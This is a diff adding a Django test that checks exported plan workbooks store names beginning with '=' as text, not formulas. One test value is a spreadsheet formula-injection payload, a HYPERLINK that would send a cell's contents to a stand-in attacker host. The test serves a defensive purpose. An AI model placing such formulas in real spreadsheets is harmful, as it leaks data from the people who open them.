@@ -104,3 +104,34 @@ def test_another_person_cannot_read_or_change_a_drafts_figures(member):
     other.force_login(User.objects.get(username="chair"))
     assert other.get(f"/plan/amendments/{draft.pk}/figures.xlsx").status_code == 404
     assert other.post(f"/plan/amendments/{draft.pk}/figures/save/", {"payload": "x"}).status_code == 404
+
+
+def test_a_name_that_starts_with_equals_is_text_in_every_workbook_and_comes_back_unrefused(plan):
+    """openpyxl writes a string starting with "=" as a formula: a name "=HYPERLINK(…)" ran in every
+    reader's spreadsheet, and the committee's own unedited download was refused on upload as
+    holding a formula. In the figures workbook, the plan's export and the year in review, it is text."""
+    from openpyxl import Workbook
+
+    from core.spreadsheets import append_data
+    from plan import exchange
+    from plan.items import operational_years
+    from plan.selectors import plan_export, version_in_force
+
+    name = '=HYPERLINK("http://evil.example/?"&B3,"پسماند")'
+    state = dict(version_state(version_in_force(plan)))
+    state["IND3.1.1"] = {**state["IND3.1.1"], "name_fa": name}
+    data = exchange.committee_workbook(state, "C02", list(operational_years(state, plan)))
+    book = load_workbook(io.BytesIO(data))
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    assert name in [cell.value for cell in cells] and not [cell for cell in cells if cell.data_type == "f"]
+    assert exchange.committee_changes(data, state, "C02", WHY) == []  # unedited: no change, no refusal
+
+    document = plan_export(version_in_force(plan))
+    document["plan"]["name_fa"] = "=1+1"
+    exported = load_workbook(io.BytesIO(exchange.workbook(document)))
+    assert not [c for sheet in exported for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+
+    sheet = Workbook().active
+    append_data(sheet, ["=SUM(A1:A9)", "+98 61", "\x07bell", 12])
+    assert [c.value for c in sheet[1]] == ["=SUM(A1:A9)", "+98 61", "\ufffdbell", 12]
+    assert [c.data_type for c in sheet[1]] == ["s", "s", "s", "n"]
